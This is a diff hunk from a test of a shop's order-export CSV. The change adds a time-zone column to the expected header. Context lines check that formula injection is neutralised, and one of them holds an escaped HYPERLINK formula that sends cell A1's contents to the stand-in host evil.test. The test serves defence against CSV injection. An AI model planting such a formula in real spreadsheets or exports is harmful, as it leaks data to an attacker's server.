@@ -175,7 +175,7 @@ describe('the export for a spreadsheet', () => {
     const { csv, count, next } = (await ask(shop.app, exportOrders, { body: {} })).result;
     expect(count).toBe(1);
     expect(next).toBeUndefined();
-    expect(csv.startsWith('\uFEFFnumber,createdAt,status,')).toBe(true);
+    expect(csv.startsWith('\uFEFFnumber,createdAt,timeZone,status,')).toBe(true);
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.test?""&A1,""x"")"`);
     // No cell begins with a sign that makes it a formula.
     expect(csv.split(/\r\n/)[1]).not.toMatch(/(?:^|,)"?[=+\-@]/);
